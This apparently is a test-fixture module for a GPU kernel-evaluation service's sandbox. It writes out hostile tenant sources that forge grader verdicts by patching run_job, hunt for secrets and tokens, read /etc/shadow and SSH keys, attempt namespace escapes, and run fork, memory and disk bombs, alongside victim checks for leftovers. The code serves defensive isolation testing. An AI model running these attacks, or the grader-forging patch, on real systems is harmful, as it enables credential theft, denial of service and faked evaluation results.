"""Kernel sources written by a hostile tenant, and the honest tenants' sources that follow them.

Every hostile source is a KernelBench module (Model, ModelNew, get_inputs) whose module body
(`module_attack`) or forward (`forward_attack`) carries out one attack from issue 12. What the
attack managed is collected with `escaped(...)`: the module raises an exception whose message
starts with "ESCAPED:" (and prints it), so the test only has to look for "ESCAPED" in the job's
result and log. What it tried and what stopped it goes to its log (`note(...)`).

The attack code runs inside the service's job process. Where an attack could hurt this host if
the sandbox were missing (kill(-1), a fork bomb), it first checks that it is PID 1 of its own PID
namespace and not root, and reports ESCAPED instead of running when it is not.

The honest tenants' sources (`victim_source`) also check from their module body that nothing of
an earlier job is left in their process or their /tmp.
"""

from __future__ import annotations

import json
import textwrap
from typing import Any

_PRELUDE = '''
import ctypes
import errno
import glob
import json
import os
import signal
import socket
import stat
import struct
import sys
import time

import torch

CFG = json.loads(__CFG__)
ESCAPED = []
NOTES = []
_libc = ctypes.CDLL(None, use_errno=True)
IPC_KEY = 0x4B450C01  # the System V IPC key IPC_LEFTOVERS uses


def escaped(what):
    ESCAPED.append(str(what))


def note(what):
    NOTES.append(str(what))


def reporter():
    """The job process's reporter (its own job's log), if this runs in one."""
    import sys

    # Up the frames (gc.get_objects is refused in an armed job process: engine/tamper.py).
    f = sys._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            if type(v).__name__ == "_Reporter":
                return v
        f = f.f_back
    return None


def report():
    text = "hostile job " + CFG["name"] + ": " + "; ".join(NOTES)
    print(text, flush=True)
    rep = reporter()
    if rep is not None:
        try:
            rep.log(text + "\\n")
        except Exception as e:
            print(f"no log: {e!r}", flush=True)
    if ESCAPED:
        msg = "ESCAPED: " + "; ".join(ESCAPED)
        print(msg, flush=True)
        raise RuntimeError(msg)


def set_name(name):
    """comm of this process (what `ps` shows): prctl(PR_SET_NAME) and /proc/self/comm."""
    _libc.prctl(15, ctypes.c_char_p(name.encode()[:15]), 0, 0, 0)
    try:
        with open("/proc/self/comm", "w") as f:
            f.write(name[:15])
    except OSError:
        pass


def errname(exc):
    return errno.errorcode.get(getattr(exc, "errno", 0) or 0, type(exc).__name__)


def last_errno():
    e = ctypes.get_errno()
    return errno.errorcode.get(e, str(e))


def sealed():
    """PID 1 of its own PID namespace and not root: where the dangerous attacks may run."""
    return os.getpid() == 1 and os.getuid() != 0 and os.geteuid() != 0


def try_read(path, what):
    try:
        with open(path, "rb") as f:
            data = f.read(4096)
    except OSError as e:
        note(f"read {what}: {errname(e)}")
        return None
    escaped(f"read {what} ({path}): {len(data)} bytes")
    return data


def try_create(path, what):
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError as e:
        note(f"create {what}: {errname(e)}")
        return
    os.write(fd, b"# written by a hostile kerneleval job\\n")
    os.close(fd)
    escaped(f"created {what} ({path})")


def try_open_write(path, what):
    """Opens an existing file for writing without changing it (O_APPEND, nothing written)."""
    try:
        fd = os.open(path, os.O_WRONLY | os.O_APPEND)
    except OSError as e:
        note(f"open {what} for writing: {errname(e)}")
        return
    os.close(fd)
    escaped(f"opened {what} ({path}) for writing")


def try_connect_unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1.0)
    try:
        s.connect(path)
    except OSError as e:
        return errname(e)
    finally:
        s.close()
    return None


def unix_socket_paths():
    """Named unix sockets this process can find: /proc/net/unix, then a walk of the usual
    folders and of the ones the test named."""
    found = set()
    try:
        with open("/proc/net/unix") as f:
            for line in f.read().splitlines()[1:]:
                parts = line.split()
                if len(parts) >= 8 and parts[7].startswith("/"):
                    found.add(parts[7])
    except OSError:
        pass
    roots = ["/tmp", "/run", "/var/run", "/dev/shm", "/root", "/home", CFG.get("state", "/")]
    for root in roots:
        for base, dirs, files in os.walk(root):
            if base.count("/") > 8:
                dirs[:] = []
            for name in files + dirs:
                p = os.path.join(base, name)
                try:
                    if stat.S_ISSOCK(os.lstat(p).st_mode):
                        found.add(p)
                except OSError:
                    pass
    for p in CFG.get("sockets", []):
        found.add(p)
    return sorted(found)


def module_attack():
    pass


def forward_attack():
    pass
'''

_MODEL = """

class Model(torch.nn.Module):
    def forward(self, x):
        return x + 0.0


class ModelNew(torch.nn.Module):
    def forward(self, x):
        forward_attack()
        return x + 0.0


def get_inputs():
    return [torch.randn(64)]


def get_init_inputs():
    return []


module_attack()
"""


def hostile_source(name: str, attack: str, cfg: dict[str, Any] | None = None) -> str:
    """A Model/ModelNew module: the prelude, then `attack` (which redefines module_attack
    and/or forward_attack), then the classes; CFG in the source is {"name": name, **cfg}."""
    data = json.dumps({"name": name, **(cfg or {})})
    prelude = _PRELUDE.replace("__CFG__", repr(data))
    return prelude + "\n" + textwrap.dedent(attack) + _MODEL


# ---- the attacks ------------------------------------------------------------------------

# 1. Patch the engine from the module body, so that later jobs in this process (there must be
#    none) would be judged by the attacker; and try to leave the patch on disk.
ENGINE_PATCH = """
def module_attack():
    import builtins
    import site
    import types

    import kerneleval_server.engine as eng
    import kerneleval_server.engine.compare as cmp
    import kerneleval_server.engine.runner as runner
    from kerneleval.v1 import job_pb2

    def forged_run_job(spec, reporter, config, *a, **k):
        result = job_pb2.EvalResult(
            verdict=job_pb2.VERDICT_OK, compiled=True, correctness=True, speedup=3.0
        )
        return eng.Outcome(result=result, context_poisoned=False)

    original_compare = cmp.compare_outputs

    def forged_compare(*a, **k):
        check = original_compare(*a, **k)
        check.ok = True
        check.message = ""
        return check

    forged_run_job._ke_hostile = True
    forged_compare._ke_hostile = True
    eng.run_job = forged_run_job
    runner.run_job = forged_run_job
    cmp.compare_outputs = forged_compare
    for mod in list(sys.modules.values()):
        for attr in ("run_job", "compare_outputs"):
            if getattr(mod, attr, None) is not None and mod.__name__.startswith("kerneleval"):
                try:
                    setattr(mod, attr, forged_run_job if attr == "run_job" else forged_compare)
                except Exception:
                    pass
    fake = types.ModuleType("kerneleval_server.engine")
    fake.run_job = forged_run_job
    fake._ke_hostile = True
    sys.modules["kerneleval_server.engine.compare_forged"] = fake
    builtins.__ke_hostile__ = CFG["nonce"]
    sys._ke_hostile = CFG["nonce"]
    note("patched run_job and compare_outputs in this process")

    # Persistence on disk: a .pth or module in any import folder, a file in the engine's
    # __pycache__ (harmless content, unique names; the test removes them if they appear).
    tag = "ke_hostile_" + CFG["nonce"]
    folders = set(p for p in sys.path if p and os.path.isdir(p))
    try:
        folders.update(site.getsitepackages())
    except Exception:
        pass
    folders.add(os.path.join(os.path.dirname(eng.__file__), "__pycache__"))
    folders.add(os.path.dirname(eng.__file__))
    for folder in sorted(folders):
        for suffix in (".pth", ".py"):
            try_create(os.path.join(folder, tag + suffix), f"{tag}{suffix} in {folder}")
    try_open_write(eng.__file__, "the engine's __init__.py")
    try_open_write(runner.__file__, "the engine's runner.py")
    report()
"""

# 2. A daemon: double fork + setsid, ignores SIGTERM and SIGHUP, renames itself and loops,
#    trying to reach the service; before that, look for tokens and sockets.
DAEMON = """
def probe_environment():
    for key, value in os.environ.items():
        if any(w in key.upper() for w in ("TOKEN", "SECRET", "PASSWORD", "ADMIN")):
            escaped(f"environment variable {key} ({len(value)} characters)")
    for key in ("KERNELEVAL_WORKER_TOKEN", "KERNELEVAL_ADMIN_TOKEN", "KERNELEVAL_SOCKET"):
        if key in os.environ:
            escaped(f"{key} in the environment")
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as f:
                data = f.read()
        except OSError:
            continue
        if b"TOKEN" in data.upper():
            escaped(f"a token in {path}")
    sockets = unix_socket_paths()
    note(f"{len(sockets)} named unix sockets found")
    for p in sockets:
        err = try_connect_unix(p)
        if err is None:
            escaped(f"connected to the unix socket {p}")
        else:
            note(f"connect {p}: {err}")


def module_attack():
    probe_environment()
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            os.setsid()
            if os.fork() != 0:
                os._exit(0)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            set_name(CFG["comm"])
            os.write(w, b"up")
            os.close(w)
            targets = list(CFG.get("sockets", []))
            deadline = time.time() + 600
            while time.time() < deadline:
                for p in targets:
                    try_connect_unix(p)
                time.sleep(0.05)
        finally:
            os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    os.read(r, 2)
    os.close(r)
    note("the daemon is up")
    time.sleep(1.0)  # the test sees it on the host meanwhile
    report()
"""

# 3. Ignore SIGTERM, start a child that ignores it too, and sleep past the timeout.
IGNORE_SIGTERM = """
def forward_attack():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    if os.fork() == 0:
        os.setsid()
        set_name(CFG["comm"])
        while True:
            time.sleep(0.1)
    set_name(CFG["comm"])
    time.sleep(3600)
"""

# 4. Read and write what belongs to the host; and what the job process is.
HOST_FILES = """
def identity():
    if os.getuid() == 0 or os.geteuid() == 0:
        escaped(f"runs as root (uid {os.getuid()}, euid {os.geteuid()})")
    if os.getpid() != 1:
        escaped(f"pid {os.getpid()}: not PID 1 of its own PID namespace")
    try:
        names = sorted(name for _, name in socket.if_nameindex())
    except OSError as e:
        names = ["if_nameindex failed: " + errname(e)]
    if names != ["lo"]:
        escaped(f"network interfaces {names}")
    with open("/proc/net/dev") as f:
        devs = sorted(line.split(":")[0].strip() for line in f.read().splitlines()[2:])
    if devs != ["lo"]:
        escaped(f"/proc/net/dev lists {devs}")
    status = {}
    with open("/proc/self/status") as f:
        for line in f:
            k, _, v = line.partition(":")
            status[k] = v.strip()
    if status.get("Seccomp") != "2":
        escaped(f"Seccomp: {status.get('Seccomp')}")
    if status.get("NoNewPrivs") != "1":
        escaped(f"NoNewPrivs: {status.get('NoNewPrivs')}")
    if int(status.get("CapEff", "0"), 16) != 0:
        escaped(f"CapEff: {status.get('CapEff')}")
    note(f"uid {os.getuid()} pid {os.getpid()} interfaces {names} seccomp "
         f"{status.get('Seccomp')} no_new_privs {status.get('NoNewPrivs')}")
    for node in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/vda", "/dev/kmsg"):
        if os.path.exists(node):
            escaped(f"{node} exists")
    for pid in CFG.get("host_pids", []):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if b"kerneleval" in cmd:
            escaped(f"sees host process {pid}: {cmd[:80]!r}")


def module_attack():
    identity()
    state, repo = CFG["state"], CFG["repo"]
    tag = "ke_hostile_" + CFG["nonce"]
    try_read(os.path.join(state, "admin_token"), "the admin token")
    try_read(os.path.join(state, "jobs.db"), "the job store")
    try_read(os.path.join(repo, "README.md"), "the repository's README.md")
    try_read(os.path.join(repo, ".git", "config"), "the repository's .git/config")
    try_read(os.path.join(repo, "tests", "conftest.py"), "the repository's tests/")
    try_read("/etc/shadow", "/etc/shadow")
    # The Python installation may live under /root (pyenv): the sandbox shows it read-only at
    # the same path, so /root may exist with the folders on the way to it, and nothing else.
    try:
        entries = os.listdir("/root")
    except OSError as e:
        note(f"list /root: {errname(e)}")
    else:
        ways = [p for p in CFG.get("code_paths", []) if p.startswith("/root/")]
        other = [e for e in entries if not any(p.startswith(f"/root/{e}/") for p in ways)]
        if other:
            escaped(f"listed /root: {other[:5]}")
        else:
            note(f"/root shows only {entries} (the way to the Python installation)")
    for name in (".bashrc", ".gitconfig", ".bash_history", ".ssh/id_rsa"):
        if os.path.exists(os.path.join("/root", name)):
            try_read(os.path.join("/root", name), f"/root/{name}")
    try:
        entries = os.listdir(state)
        escaped(f"listed the state folder: {entries[:8]}")
    except OSError as e:
        note(f"list the state folder: {errname(e)}")
    try_create(os.path.join(state, tag), "a file in the state folder")
    try_create(os.path.join(repo, tag), "a file in the repository")
    for sub in ("server", "tests", ".venv", ".git"):
        try_create(os.path.join(repo, sub, tag), f"a file in the repository's {sub}/")
    try_create(os.path.join("/root", tag), "a file in /root")
    try_open_write(os.path.join(repo, "README.md"), "the repository's README.md")
    try_open_write(os.path.join(state, "jobs.db"), "the job store")
    report()
"""

# 5. Kill the front end, the watchdog and the zygote (host pids from the test), then every
#    process it may signal.
KILL_SERVICE = """
def module_attack():
    for what in ("frontend", "watchdog", "zygote"):
        pid = CFG["pids"].get(what)
        if not pid:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as e:
            note(f"kill {what} ({pid}): {errname(e)}")
        else:
            note(f"kill {what} ({pid}) returned without error")
    if sealed():
        try:
            os.kill(-1, signal.SIGKILL)
            note("kill(-1) returned without error")
        except OSError as e:
            note(f"kill(-1): {errname(e)}")
    else:
        escaped("not sealed (not PID 1 of its own namespace, or root): kill(-1) not tried")
    time.sleep(0.5)
    report()
"""

# 6. Back into the front end's network namespace, a new user namespace, the service's port.
SETNS = """
CLONE_NEWUSER = 0x10000000
CLONE_NEWNET = 0x40000000
CLONE_NEWNS = 0x00020000
# Syscalls the seccomp filter refuses with EPERM, called so that without the filter they would
# fail otherwise (ESRCH, EFAULT, EINVAL) or do nothing (process_vm_readv of nothing).
SYSCALLS = {
    "x86_64": {"bpf": 321, "perf_event_open": 298, "keyctl": 250, "process_vm_readv": 310,
               "ptrace": 101},
    "aarch64": {"bpf": 280, "perf_event_open": 241, "keyctl": 219, "process_vm_readv": 270,
                "ptrace": 117},
}
PTRACE_ATTACH = 16


def module_attack():
    import platform

    fe = CFG["pids"].get("frontend", 0)
    for path in (f"/proc/{fe}/ns/net", "/proc/1/ns/net", "/proc/self/ns/net"):
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError as e:
            note(f"open {path}: {errname(e)}")
            continue
        rc = _libc.setns(fd, 0)
        if rc == 0:
            escaped(f"setns({path}) succeeded")
        else:
            note(f"setns({path}): {last_errno()}")
        os.close(fd)
    for flag, name in ((CLONE_NEWUSER, "CLONE_NEWUSER"), (CLONE_NEWNET, "CLONE_NEWNET"),
                       (CLONE_NEWNS, "CLONE_NEWNS")):
        if _libc.unshare(flag) == 0:
            escaped(f"unshare({name}) succeeded")
        else:
            note(f"unshare({name}): {last_errno()}")
    if not sealed():
        escaped("not sealed: mount not tried")
    elif _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        escaped("mount succeeded")
    else:
        note(f"mount: {last_errno()}")
    numbers = SYSCALLS.get(platform.machine(), {})
    for name, nr in numbers.items():
        ctypes.set_errno(0)
        if name == "process_vm_readv":
            rc = _libc.syscall(nr, os.getpid(), None, 0, None, 0, 0)
        elif name == "ptrace":
            rc = _libc.syscall(nr, PTRACE_ATTACH, 999999, 0, 0)
        else:
            rc = _libc.syscall(nr, 0, 0, 0, 0, 0, 0)
        err = ctypes.get_errno()
        if rc == -1 and err == errno.EPERM:
            note(f"{name}: EPERM")
        else:
            escaped(f"{name} not refused by seccomp (rc {rc}, {errno.errorcode.get(err, err)})")
    for host, port in (("127.0.0.1", CFG["port"]), ("::1", CFG["port"])):
        fam = socket.AF_INET6 if ":" in host else socket.AF_INET
        try:
            s = socket.socket(fam, socket.SOCK_STREAM)
        except OSError as e:
            note(f"socket for {host}: {errname(e)}")
            continue
        s.settimeout(2.0)
        try:
            s.connect((host, port))
            escaped(f"connected to {host}:{port}")
        except OSError as e:
            note(f"connect {host}:{port}: {errname(e)}")
        finally:
            s.close()
    for p in CFG.get("sockets", []):
        err = try_connect_unix(p)
        if err is None:
            escaped(f"connected to {p}")
        else:
            note(f"connect {p}: {err}")
    report()
"""

# 7a. A fork bomb: every process forks in a loop; the job never returns.
FORK_BOMB = """
def forward_attack():
    if not sealed():
        escaped("not sealed: the fork bomb was not started")
        report()
    set_name(CFG["comm"])
    forks = 0
    started = time.time()
    while True:
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.01)
            continue
        if pid == 0:
            forks = 0
            if time.time() - started > 120:  # a bound in case nothing kills it
                os._exit(0)
        else:
            forks += 1
"""

# 7b. 6000 posix_spawn children; counts how many the limits let through.
SPAWN_MANY = """
def forward_attack():
    if not sealed():
        escaped("not sealed: the spawns were not started")
        report()
    arg = CFG["sleep_arg"]
    ok, first_error = 0, None
    for _ in range(6000):
        try:
            os.posix_spawn("/bin/sleep", ["sleep", arg], {})
            ok += 1
        except OSError as e:
            first_error = first_error or errname(e)
    note(f"posix_spawn: {ok} of 6000 started; first refusal {first_error}")
    if ok > CFG["max_pids"]:
        escaped(f"{ok} children started, more than the limit of {CFG['max_pids']}")
    report()
    raise RuntimeError(f"spawned {ok} of 6000 children ({first_error})")
"""

# 8. A memory bomb: allocate and touch 4 GiB under a 1 GiB limit.
MEMORY_BOMB = """
def forward_attack():
    chunks = []
    for _ in range(16):
        t = torch.empty(256 << 20, dtype=torch.uint8)
        t.fill_(1)
        chunks.append(t)
    escaped("allocated and touched 4 GiB")
    report()
"""

# 9. Fill /tmp until ENOSPC; leave a marker for the next job.
FILL_TMP = """
def module_attack():
    marker = os.path.join("/tmp", "ke_marker_" + CFG["nonce"])
    with open(marker, "w") as f:
        f.write("left by a hostile job")
    chunk = b"x" * (1 << 20)
    total, stop = 0, None
    limit = CFG["tmp_bytes"]
    with open("/tmp/ke_fill", "wb", buffering=0) as f:
        while total < 4 * limit:
            try:
                total += f.write(chunk)
            except OSError as e:
                stop = errname(e)
                break
    note(f"wrote {total >> 20} MiB to /tmp, then {stop}")
    if stop != "ENOSPC":
        escaped(f"wrote {total >> 20} MiB to /tmp without ENOSPC ({stop})")
    elif total > limit + (1 << 20):
        escaped(f"wrote {total >> 20} MiB to /tmp, more than its {limit >> 20} MiB")
    if "TMPDIR" in os.environ and os.environ["TMPDIR"] != "/tmp":
        note(f"TMPDIR is {os.environ['TMPDIR']}")
    report()
"""

# 9b. System V IPC objects (shared memory, a message queue, semaphores) outlive the process that
# made them, in its IPC namespace: left for the next job on the GPU.
IPC_LEFTOVERS = """
def module_attack():
    made = {
        "shm": _libc.shmget(IPC_KEY, 4096, 0o1666),  # IPC_CREAT | 0666
        "msg": _libc.msgget(IPC_KEY, 0o1666),
        "sem": _libc.semget(IPC_KEY, 1, 0o1666),
    }
    note(f"made System V objects {made} under key {IPC_KEY:#x}")
    if min(made.values()) < 0:
        note(f"one failed: {errno.errorcode.get(ctypes.get_errno(), '?')}")
    report()
"""

# 10. Frames on the job's channel (fd 3): a 20 MiB length, or garbage of a valid length.
_CHANNEL = """
def channel_fd():
    for fd in [3] + sorted(int(n) for n in os.listdir("/proc/self/fd")):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                return fd
        except OSError:
            continue
    return 3


def send_bytes(body):
    \"\"\"Writes body as one frame (its length, then it) on the channel; the descriptor used.\"\"\"
    fd = channel_fd()
    os.set_blocking(fd, True)
    os.write(fd, struct.pack(">I", len(body)) + body)
    return fd


def send_frame(msg):
    \"\"\"Writes a message on the channel as the runtime would; the descriptor used.\"\"\"
    return send_bytes(msg.SerializeToString())
"""

OVERSIZED_FRAME = (
    _CHANNEL
    + """
def module_attack():
    fd = channel_fd()
    os.set_blocking(fd, True)
    os.write(fd, struct.pack(">I", 20 << 20) + os.urandom(4096))
    note(f"wrote a 20 MiB frame header on fd {fd}")
    time.sleep(60)
"""
)

GARBAGE_FRAME = (
    _CHANNEL
    + """
def module_attack():
    fd = send_bytes(b"\\xff" * 64)
    note(f"wrote 64 bytes of garbage in a frame on fd {fd}")
    time.sleep(60)
"""
)

FORGED_FRAME = (
    _CHANNEL
    + """
def module_attack():
    from kerneleval.internal.v1 import job_channel_pb2
    from kerneleval.v1 import job_pb2

    msg = job_channel_pb2.JobProcessMessage()
    msg.outcome.job_id = "0" * 32
    msg.outcome.result.verdict = job_pb2.VERDICT_OK
    msg.outcome.result.correctness = True
    msg.outcome.result.speedup = 7.5
    fd = send_frame(msg)
    note(f"wrote a forged outcome for another job on fd {fd}")
    time.sleep(60)
"""
)

# 10a. An outcome of its own job with a verdict no Verdict names (it would reach the store, the
#      logs and GetStats, which name every verdict).
UNKNOWN_VERDICT_FRAME = (
    _CHANNEL
    + """
def module_attack():
    from kerneleval.internal.v1 import job_channel_pb2

    msg = job_channel_pb2.JobProcessMessage()
    msg.outcome.job_id = reporter()._job_id
    msg.outcome.result.verdict = 999
    fd = send_frame(msg)
    note(f"wrote an outcome with verdict 999 on fd {fd}")
    time.sleep(60)
"""
)

# 10b. An outcome of its own job, sent by the candidate with files for the compile cache (one
#      path climbing out of the cache folder), after which it goes on running.
CACHE_POISON = (
    _CHANNEL
    + """
def module_attack():
    from kerneleval.internal.v1 import job_channel_pb2
    from kerneleval.v1 import job_pb2

    cache = os.environ.get("TRITON_CACHE_DIR", "")
    held = sorted(os.path.relpath(os.path.join(d, n), cache)
                  for d, _, names in os.walk(cache) for n in names) if cache else None
    note(f"compile cache held {held}")
    msg = job_channel_pb2.JobProcessMessage()
    msg.outcome.job_id = reporter()._job_id
    msg.outcome.result.verdict = job_pb2.VERDICT_OK
    msg.outcome.result.compiled = True
    for path in ("poison/kernel.cubin", "../../../../tmp/ke_escaped_" + CFG["nonce"]):
        msg.outcome.compile_cache.add(path=path, data=b"poisoned")
    report()
    send_frame(msg)
    set_name("kehcache" + CFG["nonce"])
    time.sleep(120)  # its job is over: it should not be
"""
)

# 10b'. Grants asked for ahead (PhaseUpdate.ahead) from the module body, before its kernel is
#      built: for a timing window (PROFILING), and again and again for its check; with
#      CFG["other"], for a job that is not its own too. The front end takes only its own
#      job's check, once; a frame for another job breaks the protocol.
AHEAD_ASKS = (
    _CHANNEL
    + """
def module_attack():
    from kerneleval.internal.v1 import job_channel_pb2
    from kerneleval.v1 import job_pb2

    job_id = reporter()._job_id
    asks = [(job_id, job_pb2.PHASE_PROFILING)] * 3 + [(job_id, job_pb2.PHASE_VALIDATING)] * 3
    if CFG.get("other"):
        asks.append(("not-" + job_id, job_pb2.PHASE_VALIDATING))
    for target, phase in asks:
        msg = job_channel_pb2.JobProcessMessage()
        msg.phase.job_id, msg.phase.phase, msg.phase.ahead = target, phase, True
        send_frame(msg)
    note(f"asked ahead {len(asks)} times")
    report()
"""
)

# 10c. The channel closed by the candidate, with os._exit disarmed first so that the runtime
#      cannot leave when it sees the channel end; then it stays.
CHANNEL_CLOSED = (
    _CHANNEL
    + """
def module_attack():
    report()
    os._exit = lambda code: None  # the runtime's reader leaves with os._exit on a closed channel
    set_name("kehclose" + CFG["nonce"])
    fd = channel_fd()
    socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)  # wakes the runtime's reader
    os.close(fd)
    time.sleep(120)  # its job is lost: it should not be here
"""
)

# 11. A log flood: 300 MB printed (the job's stdout and stderr), then 300 MB of log lines
#     for its own job on its channel (the runtime's reporter, found with gc), which the front
#     end stores as log events.
LOG_FLOOD = """
DONE = []


def forward_attack():
    from kerneleval.internal.v1 import job_channel_pb2

    if DONE:
        return
    DONE.append(1)
    line = ("flood " * 170 + "\\n").encode()  # about 1 KiB
    block = (line * 1024).decode()  # about 1 MiB
    for _ in range(300):
        sys.stdout.write(block)
    sys.stdout.flush()
    for _ in range(20):
        sys.stderr.write(block)
    sys.stderr.flush()
    rep = reporter()
    if rep is None:
        note("no reporter found")
        report()
        return
    sent = 0
    for _ in range(300):
        msg = job_channel_pb2.JobProcessMessage()
        msg.log.job_id = rep._job_id
        msg.log.text = block
        rep._channel.send(msg)
        sent += len(block)
    for _ in range(20000):
        rep.log("")
    note(f"sent {sent >> 20} MiB of log lines and 20000 empty ones")
    report()
"""


# ---- the honest tenants ---------------------------------------------------------------------

VICTIM_CHECKS = """
import builtins
import ctypes
import os
import glob
import sys

import kerneleval_server.engine as _eng
import kerneleval_server.engine.compare as _cmp
import kerneleval_server.engine.runner as _runner

_left = []
if getattr(builtins, "__ke_hostile__", None) or getattr(sys, "_ke_hostile", None):
    _left.append("an earlier job's marker in builtins/sys")
for _f in (_eng.run_job, _runner.run_job, _cmp.compare_outputs):
    if getattr(_f, "_ke_hostile", False):
        _left.append(f"{_f.__name__} was replaced by an earlier job")
if _eng.run_job is not _runner.run_job:
    _left.append("engine.run_job is not runner.run_job")
if any(m.endswith("compare_forged") for m in sys.modules):
    _left.append("an earlier job's module in sys.modules")
_ipc = ctypes.CDLL(None, use_errno=True)
for _kind, _found in (
    ("shared memory", _ipc.shmget(0x4B450C01, 0, 0)),
    ("message queue", _ipc.msgget(0x4B450C01, 0)),
    ("semaphore set", _ipc.semget(0x4B450C01, 0, 0)),
):
    if _found >= 0:
        _left.append(f"an earlier job's System V {_kind}")
_cache = os.environ.get("TRITON_CACHE_DIR", "")
if _cache and any(names for _, _, names in os.walk(_cache)):
    _left.append("files in its compile cache that its own code never made")
_markers = glob.glob("/tmp/ke_marker_*") + glob.glob("/tmp/ke_fill*")
if _markers:
    _left.append(f"an earlier job's files in /tmp: {_markers}")
if _left:
    raise RuntimeError("ESCAPED: " + "; ".join(_left))
"""

REFERENCE = """
import torch


class Model(torch.nn.Module):
    def forward(self, x):
        return x + 0.0


def get_inputs():
    return [torch.randn(64)]


def get_init_inputs():
    return []
"""


def victim_source(wrong: bool) -> str:
    """An honest candidate: correct (returns x) or wrong (returns x + 1) against REFERENCE."""
    body = "x + 1.0" if wrong else "x.clone()"
    return (
        VICTIM_CHECKS
        + f"""
import torch


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return {body}


def get_inputs():
    return [torch.randn(64)]


def get_init_inputs():
    return []
"""
    )
